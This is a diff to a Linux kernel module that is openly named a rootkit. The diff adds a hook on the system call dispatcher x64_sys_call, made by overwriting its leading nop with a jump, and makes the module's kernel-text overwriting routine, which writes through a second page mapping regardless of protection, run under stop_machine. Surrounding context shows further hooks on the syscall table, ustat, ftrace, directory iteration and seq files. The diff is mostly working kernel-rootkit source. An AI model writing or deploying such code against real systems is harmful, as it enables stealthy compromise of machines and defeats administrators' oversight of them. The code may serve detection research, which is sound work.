@@ -9,8 +9,11 @@
 #include <linux/kprobes.h>
 #include <linux/mm.h>
 #include <linux/module.h>
+#include <linux/objtool.h>
 #include <linux/seq_file.h>
+#include <linux/stop_machine.h>
 #include <linux/vmalloc.h>
+#include <asm/nospec-branch.h>
 #include <asm/syscall.h>
 #include <asm/unistd.h>
 
@@ -23,6 +26,9 @@ MODULE_PARM_DESC(table, "replace getpgid in the system call table");
 static int entry;
 module_param(entry, int, 0444);
 MODULE_PARM_DESC(entry, "begin ustat with 1: jmp, 2: mov and jmp, 3: push and ret, 4: jmp through memory, 5: jmp after its nop, 6: call");
+static bool dispatch;
+module_param(dispatch, bool, 0444);
+MODULE_PARM_DESC(dispatch, "begin what all system calls go through with a jump");
 static char *trace;
 module_param(trace, charp, 0444);
 MODULE_PARM_DESC(trace, "have ftrace call us in this function");
@@ -48,9 +54,24 @@ static int find_look_up(void)
 	return 0;
 }
 
-/* Writes over the kernel's image, however it is protected, by way of another mapping of its pages. */
+struct writing {
+	void *to;
+	const void *from;
+	size_t size;
+};
+
+static int write_bytes(void *argument)
+{
+	struct writing *writing = argument;
+
+	memcpy(writing->to, writing->from, writing->size);
+	return 0;
+}
+
+/* Writes over the kernel's image, however it is protected, by way of another mapping of its pages. Nobody runs meanwhile. */
 static int write_image(void *to, const void *from, size_t size)
 {
+	struct writing writing = { .from = from, .size = size };
 	struct page *pages[2];
 	void *mapping;
 	int i;
@@ -60,7 +81,8 @@ static int write_image(void *to, const void *from, size_t size)
 	mapping = vmap(pages, 2, VM_MAP, PAGE_KERNEL);
 	if (!mapping)
 		return -ENOMEM;
-	memcpy(mapping + offset_in_page(to), from, size);
+	writing.to = mapping + offset_in_page(to);
+	stop_machine(write_bytes, &writing, NULL);
 	vunmap(mapping);
 	return 0;
 }
@@ -129,6 +151,37 @@ static int hook_entry(void)
 		memcpy(bytes + at + 6, &target, 8);
 	}
 	return write_image(ustat, bytes, sizeof(bytes));
+}
+
+/* Goes on after the nop that the jump to here is in place of. */
+static u8 *dispatcher;
+void *rootkit_resume;
+void rootkit_dispatch(void);
+asm(".text\n"
+    ".globl rootkit_dispatch\n"
+    ".type rootkit_dispatch, @function\n"
+    "rootkit_dispatch:\n"
+    ANNOTATE_NOENDBR
+    ANNOTATE_RETPOLINE_SAFE
+    "	jmp *rootkit_resume(%rip)\n"
+    ".size rootkit_dispatch, . - rootkit_dispatch\n");
+
+static const u8 nop[] = { 0x0f, 0x1f, 0x44, 0, 0 };
+
+static int hook_dispatch(void)
+{
+	u8 bytes[5] = { 0xe9 }, *at = (u8 *)look_up("x64_sys_call");
+
+	if (!at)
+		return -ENOENT;
+	if (*(u32 *)at == 0xfa1e0ff3 || *(u32 *)at == 0x001f0f66) /* endbr64, or what it was sealed with */
+		at += 4;
+	if (memcmp(at, nop, sizeof(nop)))
+		return -EOPNOTSUPP;
+	rootkit_resume = at + sizeof(nop);
+	*(s32 *)(bytes + 1) = (unsigned long)rootkit_dispatch - (unsigned long)rootkit_resume;
+	dispatcher = at;
+	return write_image(at, bytes, sizeof(bytes));
 }
 
 static void rootkit_trace(unsigned long ip, unsigned long parent, struct ftrace_ops *ops, struct ftrace_regs *regs)
@@ -206,6 +259,8 @@ static void restore(void)
 		write_image(&root->iterate_shared, &real_iterate, sizeof(real_iterate));
 	if (calls)
 		write_image(&calls[__NR_getpgid], &real_getpgid, sizeof(real_getpgid));
+	if (dispatcher)
+		write_image(dispatcher, nop, sizeof(nop));
 	if (ustat)
 		write_image(ustat, ustat_bytes, sizeof(ustat_bytes));
 	if (trace)
@@ -220,6 +275,8 @@ static int __init rootkit_init(void)
 		error = hook_table();
 	if (!error && entry)
 		error = hook_entry();
+	if (!error && dispatch)
+		error = hook_dispatch();
 	if (!error && seq)
 		error = hook_seq();
 	if (!error && proc)
